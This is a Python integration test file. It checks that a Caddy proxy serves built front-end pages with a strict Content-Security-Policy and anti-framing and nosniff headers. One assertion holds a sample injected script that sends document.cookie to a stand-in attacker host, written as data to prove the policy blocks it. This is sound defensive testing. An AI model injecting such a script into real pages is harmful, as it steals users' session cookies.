"""Scaled out, pages come from the static front-end server through Caddy: a real Caddy (the configuration the
launcher writes) in front of a static server holding a built page must send that page with the policy the
backends send theirs — its inline script allowed by hash, no other script, no framing — and the headers every
answer gets on the page's scripts too. Attack: a script injected into the page is not allowed by the policy."""

from __future__ import annotations

import base64
import hashlib
import shutil
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from pytest_httpserver import HTTPServer

from leadapp import proxy
from tests.integration.programs import unused_port

INLINE = b"window.__reactRouterContext = {basename: '/'};"
PAGE = b"<!doctype html><html><head><script>" + INLINE + b'</script><script src="/app.js"></script></head></html>'


@pytest.fixture
def built(tmp_path: Path) -> Path:
    client = tmp_path / "build" / "client"
    (client / "dashboard").mkdir(parents=True)
    (client / "index.html").write_bytes(PAGE)
    (client / "dashboard" / "index.html").write_bytes(PAGE.replace(b"'/'", b"'/dashboard'"))
    return client


@pytest.fixture
def caddy_in_front(built: Path, tmp_path: Path, httpserver: HTTPServer) -> Iterator[str]:
    caddy = shutil.which("caddy")
    if caddy is None:
        pytest.fail("caddy is not installed (`make test` installs it from Debian)")
    httpserver.expect_request("/").respond_with_data(PAGE, content_type="text/html")
    httpserver.expect_request("/app.js").respond_with_data(b"console.log(1)", content_type="text/javascript")
    fixed, policy = proxy.front_end_security(built)
    web_port = unused_port()
    up = proxy.Upstreams(web_port, httpserver.port, (unused_port(),), front_end_headers=fixed, page_policy=policy)
    process = proxy.start(up, tmp_path / "proxy", {"PATH": "/usr/bin:/bin"})
    assert process is not None
    url = f"http://127.0.0.1:{web_port}"
    try:
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            try:
                httpx.get(url + "/app.js", timeout=1)
                break
            except httpx.HTTPError:
                time.sleep(0.1)
        yield url
    finally:
        process.terminate()
        process.wait(timeout=10)


def _sha(body: bytes) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(body).digest()).decode() + "'"


def test_a_page_through_the_proxy_carries_the_policy_of_the_built_pages(caddy_in_front: str) -> None:
    page = httpx.get(caddy_in_front + "/", headers={"Accept": "text/html,application/xhtml+xml"}, timeout=5)
    assert page.status_code == 200 and page.content == PAGE
    policy = page.headers["content-security-policy"]
    script_src = next(part.strip() for part in policy.split(";") if part.strip().startswith("script-src"))
    # Both built pages' inline scripts are allowed by hash, and nothing inline besides.
    assert _sha(INLINE) in script_src and _sha(INLINE.replace(b"'/'", b"'/dashboard'")) in script_src
    assert "'unsafe-inline'" not in script_src and "'unsafe-eval'" not in script_src
    # What an injection would add has no hash in the policy.
    assert _sha(b"fetch('https://evil.example/?c=' + document.cookie)") not in policy
    assert "frame-ancestors 'none'" in policy
    assert page.headers["x-frame-options"] == "DENY"
    assert page.headers["x-content-type-options"] == "nosniff"


def test_a_script_through_the_proxy_gets_the_fixed_headers_and_no_page_policy(caddy_in_front: str) -> None:
    script = httpx.get(caddy_in_front + "/app.js", headers={"Accept": "*/*"}, timeout=5)
    assert script.status_code == 200
    assert script.headers["x-content-type-options"] == "nosniff"
    assert "content-security-policy" not in script.headers
